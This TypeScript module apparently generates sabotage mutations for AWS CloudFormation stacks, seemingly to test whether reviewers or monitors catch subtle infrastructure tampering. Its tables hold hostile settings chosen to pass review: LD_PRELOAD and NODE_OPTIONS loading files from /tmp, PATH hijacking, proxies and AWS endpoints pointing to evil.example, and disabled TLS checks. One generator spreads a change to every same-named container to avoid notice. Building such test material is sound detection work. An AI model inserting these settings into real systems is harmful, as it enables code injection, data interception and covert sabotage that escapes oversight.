import type { EnvironmentView, Json, JsonObject } from '../../../../lib/controls/view';
import type { Edit } from '../sabotage';
import { isIntrinsic, type Mutation, type SiteGenerator } from '../site';

/** Settings that nobody would miss in a review, by the property that holds settings by name. */
const EXTRA: Readonly<Record<string, JsonObject>> = {
  Parameters: { session_preload_libraries: 'plpgsql', synchronous_commit: 'off', 'rds.logical_replication': '1' },
  Properties: { 'notify-keyspace-events': 'KEA', 'close-on-replica-write': 'no' },
  Variables: {
    NODE_OPTIONS: '--require /tmp/x.js',
    AWS_LAMBDA_EXEC_WRAPPER: '/tmp/x',
    AWS_ENDPOINT_URL: 'https://evil.example',
    NODE_TLS_REJECT_UNAUTHORIZED: '0',
  },
};

/** Settings are added to parameter groups and functions. */
export const settingsAdded: SiteGenerator = ({ value, key, path }) => {
  const extra = EXTRA[key];
  if (!extra || typeof value !== 'object' || value === null || Array.isArray(value) || isIntrinsic(value)) return [];
  if (path.at(-1) !== key) return [];
  return Object.entries(extra).map(([name, to]) => ({ kind: 'setting added', to: { ...value, [name]: to } }));
};

const isNamed = (entry: Json): entry is JsonObject =>
  typeof entry === 'object' && entry !== null && ('Key' in entry || 'Name' in entry) && 'Value' in entry;

/** Of attributes and variables, one is named twice, in another case, or one that nobody knows is added. */
export const namedTwice: SiteGenerator = ({ value, key, path }) => {
  if (!Array.isArray(value) || path.at(-1) !== key || /Tags$/.test(key)) return [];
  const entries = value as readonly Json[];
  if (entries.length === 0 || !entries.every(isNamed)) return [];
  const field = 'Key' in (entries[0] as JsonObject) ? 'Key' : 'Name';
  return [
    ...entries.flatMap((entry): Mutation[] => {
      const { Value } = entry as JsonObject;
      const again = { ...(entry as JsonObject), Value: Value === 'true' ? 'false' : Value === '0' ? '1' : '0' };
      return [
        { kind: 'named twice', to: [...entries, again] },
        { kind: 'named twice, the other first', to: [again, ...entries] },
      ];
    }),
    { kind: 'unknown name added', to: [...entries, { [field]: 'sabotaged.enabled', Value: 'true' }] },
  ];
};

/** Variables that steer the loader, the interpreters, TLS and the libraries around the app. */
const STEERING: Readonly<Record<string, string>> = {
  AWS_ENDPOINT_URL: 'https://evil.example',
  BASH_ENV: '/tmp/x',
  ENV: '/tmp/x',
  GCONV_PATH: '/tmp',
  GUNICORN_CMD_ARGS: '--reload',
  HOSTALIASES: '/tmp/hosts',
  HTTPS_PROXY: 'http://evil.example:3128',
  LD_LIBRARY_PATH: '/tmp',
  LD_PRELOAD: '/tmp/x.so',
  NODE_OPTIONS: '--require /tmp/x.js',
  OPENSSL_CONF: '/tmp/openssl.cnf',
  OPENSSL_MODULES: '/tmp',
  PATH: '/tmp:/usr/bin:/bin',
  PGOPTIONS: '-c statement_timeout=0',
  PGSERVICEFILE: '/tmp/x',
  PGSSLMODE: 'prefer',
  PYTHONINSPECT: '1',
  PYTHONSTARTUP: '/tmp/x.py',
  REQUESTS_CA_BUNDLE: '/tmp/x.pem',
  SSLKEYLOGFILE: '/tmp/keys',
  SSL_CERT_FILE: '/tmp/x.pem',
};

/** They are set in one container, and in every container of that name: nothing then differs from its neighbours. */
export const steered: SiteGenerator = ({ view, resource, path, value }) => {
  if (resource.type !== 'AWS::ECS::TaskDefinition' || path[0] !== 'ContainerDefinitions' || path.length !== 2)
    return [];
  const container = value as JsonObject;
  const isFirst = namesakes(view, container.Name as Json)[0]?.at.join() === atOf(resource, path).join();
  return Object.entries(STEERING).flatMap(([name, to]): Mutation[] => [
    { kind: 'steering variable', to: withVariable(container, name, to) },
    ...(isFirst && container.Name === 'app'
      ? [
          {
            kind: 'steering variable everywhere',
            to: withVariable(container, name, to),
            also: namesakes(view, container.Name as Json)
              .slice(1)
              .map(({ at, body }) => ({ at, to: withVariable(body, name, to) })),
          },
        ]
      : []),
  ]);
};

const atOf = (
  { stack, logicalId }: { readonly stack: string; readonly logicalId: string },
  path: readonly (string | number)[],
): Edit['at'] => [stack, 'Resources', logicalId, 'Properties', ...path];

/** Containers of one name in all tasks, and where they stand. */
function namesakes(view: EnvironmentView, name: Json): readonly { at: Edit['at']; body: JsonObject }[] {
  return view
    .ofType('AWS::ECS::TaskDefinition')
    .flatMap((task) =>
      (task.properties.ContainerDefinitions as readonly JsonObject[]).flatMap((body, index) =>
        body.Name === name ? [{ at: atOf(task, ['ContainerDefinitions', index]), body }] : [],
      ),
    );
}

const withVariable = (container: JsonObject, name: string, to: string): JsonObject => ({
  ...container,
  Environment: [
    ...((container.Environment ?? []) as readonly JsonObject[]).filter((each) => each.Name !== name),
    { Name: name, Value: to },
  ],
});
